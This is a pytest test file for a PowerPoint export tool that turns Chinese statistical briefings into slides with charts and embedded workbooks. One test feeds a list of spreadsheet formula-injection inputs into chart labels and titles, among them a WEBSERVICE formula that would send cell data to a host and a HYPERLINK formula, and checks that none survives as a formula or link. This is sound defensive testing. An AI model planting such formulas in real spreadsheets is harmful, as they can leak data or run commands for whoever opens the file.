from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from pptx import Presentation

from tests.export.conftest import METRICS
from viewer.export.context import CancelledError, Options, Takeaway, Watch
from viewer.export.pptx.theme import HEIGHT, WIDTH
from viewer.export.pptx.write import write
from viewer.model import (
    Chart,
    Issue,
    Kind,
    Metric,
    Passage,
    Place,
    PlannedStep,
    Point,
    Qualifier,
    Section,
    Standing,
    StepKind,
)

Make = Callable[..., Takeaway]


def deck(takeaway: Takeaway, options: Options | None = None) -> Any:
    return Presentation(io.BytesIO(write(takeaway, options or Options(), Watch())))


def texts(slide: Any) -> list[str]:
    return [shape.text_frame.text for shape in slide.shapes if shape.has_text_frame]


def chart_of(slide: Any) -> Any:
    return next(shape.chart for shape in slide.shapes if shape.has_chart)


def test_is_wide_and_begins_with_title_source_and_proof(takeaway: Takeaway) -> None:
    made = deck(takeaway)
    assert made.slide_width / made.slide_height == pytest.approx(16 / 9, rel=1e-3)
    said = texts(made.slides[0])
    assert said[0] == "公安基层基础建设首战告捷"
    assert "数字报" in said[1]
    assert "7 / 7" in said[1]


def test_a_change_is_a_native_chart_whose_workbook_holds_the_numbers(takeaway: Takeaway) -> None:
    slide = next(s for s in deck(takeaway).slides if texts(s)[0] == "提取率同比变化")
    chart = chart_of(slide)
    assert list(chart.plots[0].categories) == ["DNA 提取率", "指纹提取率"]
    assert list(chart.plots[0].series[0].values) == [27.0, 3.0]
    book = openpyxl.load_workbook(io.BytesIO(chart.part.chart_workbook.xlsx_part.blob))
    assert [cell.value for cell in book.active["B"]][1:] == [27, 3]


def test_parts_of_a_whole_stand_against_their_full_track(takeaway: Takeaway) -> None:
    slide = next(s for s in deck(takeaway).slides if texts(s)[0] == "申请类服务事项")
    part, rest = chart_of(slide).plots[0].series
    sums = [a + b for a, b in zip(part.values, rest.values, strict=True)]
    assert sums == pytest.approx([1.0] * len(sums))
    assert pytest.approx(56 / 74) in list(part.values)


def test_quotes_stand_beneath_and_what_was_computed_shows_its_formula(takeaway: Takeaway) -> None:
    slide = next(s for s in deck(takeaway).slides if texts(s)[0] == "申请类服务事项")
    said = "\n".join(texts(slide))
    assert "有56项实现“最多跑一次”" in said
    assert "56 ÷ 74 ≈ 75.7%" in said
    assert "原文未说明两类是否互斥" in said


@pytest.mark.parametrize("options", [Options(), Options(notes=True)])
def test_notes_go_into_the_notes_of_the_first_slide_of_their_section(
    takeaway: Takeaway, options: Options
) -> None:
    slides = list(deck(takeaway, options).slides)
    noted = [slide for slide in slides if slide.has_notes_slide]
    assert [slides.index(slide) for slide in noted] == [1]
    assert noted[0].notes_slide.notes_text_frame.text.startswith("先讲总数")


def test_notes_stay_at_home_when_they_are_left_out(takeaway: Takeaway) -> None:
    data = write(takeaway, Options(notes=False), Watch())
    assert not any(slide.has_notes_slide for slide in Presentation(io.BytesIO(data)).slides)
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        assert not any("先讲总数".encode() in parts.read(name) for name in parts.namelist())


def test_many_bars_go_over_slides_of_one_scale_without_losing_one(make: Make) -> None:
    section, *slides, questions = _many_bars(make, 40)
    assert section.shapes.title.text == "很多"
    assert questions.shapes.title.text == "提问"
    charts = [chart_of(slide) for slide in slides]
    assert len(charts) == 4
    assert sum(len(list(chart.plots[0].categories)) for chart in charts) == 40
    (most,) = {chart.value_axis.maximum_scale for chart in charts}
    assert most >= 59


def test_nothing_on_a_slide_leaves_it(make: Make) -> None:
    for count in (1, 5, 13, 40):
        for slide in _many_bars(make, count):
            for shape in slide.shapes:
                assert shape.top >= 0
                assert shape.top + shape.height <= HEIGHT
                assert shape.left + shape.width <= WIDTH


def _many_bars(make: Make, count: int) -> list[Any]:
    """The slides of a chart of `count` bars."""
    words = "。".join(f"第{chr(0x4E00 + n)}站来了{n + 20}人" for n in range(count))
    metrics = tuple(
        replace(
            METRICS[0],
            id=f"m{n}",
            label=f"第{chr(0x4E00 + n)}站",
            unit="人",
            of=None,
            points=(Point(f"m{n}", f"{n + 20}", Decimal(n + 20), cite=f"来了{n + 20}人"),),
        )
        for n in range(count)
    )
    chart = Chart("各站", tuple(m.id for m in metrics), "bar", id="all")
    section = Section("many", "很多", Passage(words), metrics, (chart,) if count > 1 else ())
    return list(deck(make((section,))).slides)[1:]


def test_every_run_names_an_east_asian_face_and_its_language(takeaway: Takeaway) -> None:
    for slide in deck(takeaway).slides:
        runs = slide._element.findall(".//{*}r/{*}rPr")
        assert runs
        assert all(run.find("{*}ea") is not None and run.get("lang") for run in runs)


def test_a_forced_export_says_on_its_first_slide_what_does_not_agree(make: Make) -> None:
    issue = Issue("quote-missing", place=Place(12))
    assert "第 12 行" in texts(deck(make(issues=(issue,))).slides[0])[1]


def test_hostile_and_long_text_survives(make: Make) -> None:
    section = make().briefing.sections[0]
    label = "标签" * 20 + "\x00\x1b<a:t>&"
    metrics = tuple(replace(m, label=label) for m in section.metrics)
    made = deck(make((replace(section, metrics=metrics, title="\x07<x>&"),)))
    assert any("\ufffd<x>&" in texts(slide) for slide in made.slides)


def test_the_same_input_gives_the_same_bytes(make: Make) -> None:
    assert write(make(), Options(), Watch()) == write(make(), Options(), Watch())


def test_stops_when_it_is_no_longer_wanted(takeaway: Takeaway) -> None:
    with pytest.raises(CancelledError):
        write(takeaway, Options(), Watch(cancelled=lambda: True))


HOSTILE = (
    '=WEBSERVICE("http://127.0.0.1:9/"&B3)',
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "{=1}",
    "http://example.org/b",
    "mailto:a@example.org",
    "internal:Sheet1!A1",
    '=HYPERLINK("http://example.org")',
)
OURS = re.compile(
    r"=(MAX\(0,1-B\d+\)|B\d+|E\d+/F\d+"
    r'|TEXT\(E\d+,"[0#,]+"\)&" / "&TEXT\(F\d+,"[0#,]+"\)&" \("&TEXT\(B\d+,"[0.]+%"\)&"\*\)")'
)


@pytest.mark.parametrize("kind", ["bar", "share", "parts", "column", "line"])
def test_no_workbook_inside_a_deck_holds_a_formula_or_a_link_from_a_text(
    make: Make, kind: str
) -> None:
    data = write(make((_hostile(kind),)), Options(), Watch())
    books = 0
    for book in _workbooks(data):
        books += 1
        with zipfile.ZipFile(io.BytesIO(book)) as parts:
            assert not any("externalLink" in name for name in parts.namelist())
            assert not any(b"hyperlink" in parts.read(name) for name in parts.namelist())
        for sheet in openpyxl.load_workbook(io.BytesIO(book)):
            cells = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
            assert all(OURS.fullmatch(str(cell.value)) for cell in cells)
    assert books >= 1
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        assert not any(b'TargetMode="External"' in parts.read(name) for name in parts.namelist())


def _hostile(kind: str) -> Section:
    """A section whose labels, units, periods and titles a spreadsheet would run."""
    section = Section(
        "h", HOSTILE[0], Passage("各站来了" + "、".join(f"{n}人" for n in range(10, 20)))
    )
    if kind in {"column", "line"}:
        points = tuple(
            Point(f"m@{text}", f"{n + 10}", Decimal(n + 10), cite=f"{n + 10}人", period=text)
            for n, text in enumerate(HOSTILE)
        )
        metrics: tuple[Metric, ...] = (
            replace(METRICS[1], id="m", label=HOSTILE[1], points=points, series=True),
        )
    else:
        unit = "%" if kind in {"share", "parts"} else "人"
        metrics = tuple(
            replace(
                METRICS[0],
                id=f"m{n}",
                label=text,
                unit=unit,
                of=None,
                kind=Kind.SHARE if unit == "%" else Kind.COUNT,
                points=(Point(f"m{n}", f"{n + 1}", Decimal(n + 1), origin=text),),
            )
            for n, text in enumerate(HOSTILE)
        )
    exclusive = kind == "parts"
    kind = "share" if exclusive else kind
    chart = Chart("=1+1", tuple(m.id for m in metrics), kind, id="c", exclusive=exclusive)
    return replace(section, metrics=metrics, charts=(chart,))


def _workbooks(data: bytes) -> Iterator[bytes]:
    """Every workbook in a file, and in the files that it holds."""
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            content = parts.read(name)
            if content.startswith(b"PK"):
                yield content
                yield from _workbooks(content)


def test_notes_of_figures_stand_on_the_first_slide_that_shows_them(make: Make) -> None:
    section = make().briefing.sections[0]
    metrics = tuple(replace(one, notes=f"备注{one.id}。") for one in section.metrics)
    slides = deck(make((replace(section, metrics=metrics, notes=""),))).slides
    noted = [
        slide.notes_slide.notes_text_frame.text if slide.has_notes_slide else "" for slide in slides
    ]
    whole = "\n".join(noted)
    assert all(whole.count(f"备注{one.id}。") == 1 for one in metrics)
    place = next(n for n, slide in enumerate(slides) if texts(slide)[0] == "提取率同比变化")
    assert "DNA 提取率：备注dna。" in noted[place]


def test_a_section_without_charts_has_a_slide_of_its_words_with_its_notes(make: Make) -> None:
    bare = Section("bare", "引言", Passage("没有数字。"), notes="先问好。")
    second = deck(make((bare, *make().briefing.sections))).slides[1]
    assert texts(second)[0] == "引言"
    assert "没有数字。" in texts(second)
    assert second.notes_slide.notes_text_frame.text == "先问好。"


def test_a_section_that_is_not_presented_keeps_its_notes_on_the_title_slide(make: Make) -> None:
    hidden = Section("bare", "引言", Passage("没有数字。"), notes="先问好。", present=False)
    first = deck(make((hidden, *make().briefing.sections))).slides[0]
    assert first.notes_slide.notes_text_frame.text == "引言\n先问好。"


def test_a_comparison_is_a_slide_with_both_numbers_their_words_and_what_follows(
    make: Make,
) -> None:
    made = make()
    step = PlannedStep(StepKind.COMPARE, figures=("one-visit", "no-visit"))
    slides = deck(replace(made, briefing=replace(made.briefing, talk=(step,)))).slides
    said = "\n".join(texts(slides[1]))
    assert all(part in said for part in ("56 项", "7 项", "有56项实现", "56 ÷ 7 = 8", "推算"))


def test_every_chart_and_table_has_an_alternative_text(takeaway: Takeaway) -> None:
    shapes = [s for slide in deck(takeaway).slides for s in slide.shapes]
    framed = [s for s in shapes if s.has_chart or s.has_table]
    said = [s._element.nvGraphicFramePr.cNvPr.get("descr") for s in framed]
    assert framed
    assert all(said)
    assert any("申请类服务事项" in text and "56" in text for text in said)


def test_the_masters_fit_the_slides_and_no_other_program_is_named(takeaway: Takeaway) -> None:
    data = write(takeaway, Options(), Watch())
    made = Presentation(io.BytesIO(data))
    master = made.slide_masters[0]
    title = master.placeholders[0]
    assert title.left + title.width + title.left == pytest.approx(WIDTH, rel=0.01)
    for layout in master.slide_layouts:
        assert all(shape.left + shape.width <= WIDTH for shape in list(layout.placeholders))
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        names = parts.namelist()
        whole = b"".join(parts.read(name) for name in names)
    assert not any("printer" in name or "thumbnail" in name for name in names)
    assert not any(
        word in whole for word in (b"Macintosh", b"4x3", b"4:3", b"python-pptx", b"Canny")
    )


@pytest.mark.parametrize(
    ("fields", "tag"),
    [
        ({"standing": Standing.PLAN}, "noFill"),
        ({"standing": Standing.TARGET}, "noFill"),
        ({"standing": Standing.FORECAST}, "pattFill"),
        ({"qualifier": Qualifier.APPROX}, "gradFill"),
    ],
)
def test_what_is_no_plain_fact_is_drawn_unlike_one(
    make: Make, fields: dict[str, Any], tag: str
) -> None:
    (bar,) = _two_bars(make, "提高", fields)._element.findall(".//{*}ser")
    (point,) = bar.findall("{*}dPt")
    assert point.find("{*}idx").get("val") == "0"
    assert point.find(f"{{*}}spPr/{{*}}{tag}") is not None


def test_no_label_below_zero_reaches_the_name_of_its_bar(make: Make) -> None:
    axis = _two_bars(make, "下降", {}).value_axis
    lowest = min(_two_bars(make, "下降", {}).plots[0].series[0].values)
    assert lowest < 0
    assert axis.minimum_scale < lowest * 1.05


@pytest.mark.parametrize(
    ("way", "bound", "side"),
    [
        ("提高", Qualifier.AT_LEAST, "plus"),
        ("提高", Qualifier.AT_MOST, "minus"),
        ("下降", Qualifier.AT_LEAST, "minus"),
        ("下降", Qualifier.AT_MOST, "plus"),
    ],
)
def test_an_arrow_leads_from_a_bound_to_where_the_number_lies(
    make: Make, way: str, bound: Qualifier, side: str
) -> None:
    chart = _two_bars(make, way, {"qualifier": bound})
    (arrows,) = chart._element.findall(".//{*}errBars")
    for name in ("plus", "minus"):
        points = arrows.findall(f"{{*}}{name}//{{*}}pt")
        assert [point.get("idx") for point in points] == (["0"] if name == side else [])
    assert arrows.find(".//{*}tailEnd").get("type") == "arrow"
    gradients = chart._element.findall(".//{*}gradFill")
    assert gradients == []


@pytest.mark.parametrize(("way", "angle"), [("提高", None), ("下降", "10800000")])
def test_about_so_much_fades_towards_its_tip(make: Make, way: str, angle: str | None) -> None:
    chart = _two_bars(make, way, {"qualifier": Qualifier.APPROX})
    (direction,) = chart._element.findall(".//{*}gradFill/{*}lin")
    assert direction.get("ang") in ({angle} if angle else {None, "0"})


def _two_bars(make: Make, way: str, fields: dict[str, Any]) -> Any:
    """The chart of two changes of one way, the larger one (and first in it) with `fields`."""
    words = f"甲率同比{way}27%，乙率同比{way}3%。"
    metrics = tuple(
        replace(
            METRICS[3],
            id=name,
            label=name,
            points=(Point(name, size, Decimal(size), cite=f"{name}同比{way}{size}%"),),
            **(fields if size == "27" else {}),
        )
        for name, size in (("甲率", "27"), ("乙率", "3"))
    )
    chart = Chart("两率", ("甲率", "乙率"), "change", id="c", order="given")
    section = Section("two", "两率", Passage(words), metrics, (chart,))
    return chart_of(deck(make((section,))).slides[2])


def test_editing_a_share_changes_what_remains_and_what_its_label_says(takeaway: Takeaway) -> None:
    slide = next(s for s in deck(takeaway).slides if texts(s)[0] == "申请类服务事项")
    book = openpyxl.load_workbook(io.BytesIO(chart_of(slide).part.chart_workbook.xlsx_part.blob))
    row = next(row for row in book.active.iter_rows() if row[0].value == "最多跑一次")
    number = row[0].row
    assert row[1].value == f"=E{number}/F{number}"
    assert row[2].value == f"=MAX(0,1-B{number})"
    assert str(row[3].value).startswith(f'=TEXT(E{number},"0")&" / "')
    assert [cell.value for cell in row[4:6]] == [56, 74]
